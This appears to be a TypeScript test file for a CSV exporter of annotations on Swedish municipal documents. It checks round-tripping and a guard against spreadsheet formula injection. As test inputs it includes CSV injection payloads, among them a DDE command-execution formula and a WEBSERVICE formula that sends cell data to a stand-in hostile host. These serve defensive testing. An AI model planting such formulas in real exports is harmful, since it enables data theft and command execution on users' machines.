import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it, vi } from 'vitest';
import { csvColumns, toCsv } from '../../exchange';
import { csvRows, guardFormula } from '../../exchange/csv';
import { contents, example } from './contents';

const CSV_COLUMNS = csvColumns('sv');

// Hundreds of generated cases: on a machine that is busy they take longer than a test usually may.
vi.setConfig({ testTimeout: 60_000 });

/** Reads a CSV file as a spreadsheet does: the mark taken away, the first row as heads. */
function read(csv: string): { heads: string[]; rows: string[][] } {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const { data, errors } = Papa.parse<string[]>(csv.slice(1), {
    delimiter: ';',
    newline: '\r\n',
    skipEmptyLines: true,
  });
  expect(errors).toEqual([]);
  const [heads = [], ...rows] = data;
  return { heads, rows };
}

describe('a set as CSV', () => {
  it('has a row for each annotation, as a Swedish Excel reads it', () => {
    const csv = toCsv(example(), 'Europe/Stockholm');
    expect(read(csv)).toEqual({
      heads: [
        'dokument',
        'kommun',
        'datum',
        'typ',
        'lagrum',
        'adressat',
        'citat',
        'kommentar',
        'taggar',
        'sida',
        'adress',
        'sparad',
      ],
      rows: [
        [
          'Granskning av elevhälsan',
          'Björkfors kommun',
          '2024-03-01',
          'lagrum',
          'SoL 5:1a',
          'barn- och utbildningsnämnden',
          'SoL 5:1a',
          'Jämför med "svaret"; sida 3\nrad två',
          'Följ upp',
          '5',
          'https://www.bjorkfors.se/rapport.pdf',
          '2026-11-22 14:05',
        ],
      ],
    });
    expect(csv.split('\r\n')).toHaveLength(3);
  });

  it('of nothing is a row of heads', () => {
    expect(read(toCsv({ ...example(), annotations: [] }))).toEqual({ heads: [...CSV_COLUMNS], rows: [] });
  });

  it('is read back field by field, whatever the fields hold', () => {
    fc.assert(
      fc.property(contents, (set) => {
        const rows = csvRows(set, 'UTC');
        const back = read(toCsv(set, 'UTC'));
        expect(back.rows).toEqual(rows.map((row) => CSV_COLUMNS.map((column) => guardFormula(row[column] ?? ''))));
        for (const [index, annotation] of set.annotations.entries()) {
          const field = back.rows[index]?.[CSV_COLUMNS.indexOf('citat')] ?? '';
          expect([field, field.replace(/^'/, '')]).toContain(annotation.target.quote.exact.replace(/\r\n?/g, '\n'));
        }
      }),
    );
  });
});

describe('the formula guard', () => {
  it.each([
    '=1+1',
    '+46 8 123',
    '-2',
    '@SUM(A1:A9)',
    '\t=1',
    '\rfoo',
    '\n=1',
    ' =1',
    '\u00A0=1',
    '\u200B=1',
    '\uFEFF=1',
    '\u0000=1',
    '"=1',
    "'=1",
    '＝1',
    '＋1',
    '－1',
    '＠SUM',
    '−1',
    '=HYPERLINK("https://ond.se";"Klicka")',
    '=cmd|"/C calc"!A0',
    '- punkt ett',
  ])('makes %j text', (field) => {
    expect(guardFormula(field)).toBe(`'${field}`);
  });

  it.each(['', 'Nämnden bör', '5 kap. 1 a §', '2024-03-01', 'a=b', 'SoL 5:1a', 'https://x.se/?a=1', '§ 7', '• punkt'])(
    'leaves %j alone',
    (field) => {
      expect(guardFormula(field)).toBe(field);
    },
  );

  it('leaves no field that a spreadsheet would run, in any column', () => {
    const formula = '=WEBSERVICE("https://ond.se/"&A1)';
    const set = example();
    const [document] = set.documents;
    const [annotation] = set.annotations;
    const [tag] = set.tags;
    if (!document || !annotation || !tag) throw new Error('The example is not whole');
    const hostile = {
      set: { ...set.set, name: formula },
      documents: [
        {
          ...document,
          title: formula,
          canonicalUrl: formula,
          profile: { municipality: formula, date: formula },
        },
      ],
      tags: [{ ...tag, name: formula }],
      annotations: [
        {
          ...annotation,
          addressees: [formula],
          comment: formula,
          provisions: [{ sfs: null, series: formula, chapter: null, section: null, level: 'agencyRule' as const }],
          target: { ...annotation.target, quote: { ...annotation.target.quote, exact: formula } },
        },
      ],
    };
    const [row = []] = read(toCsv(hostile)).rows;
    expect(row.filter((field) => field.includes('WEBSERVICE'))).toHaveLength(9);
    for (const field of row) expect(field).not.toMatch(/^\s*[=+\-@]/);
  });
});
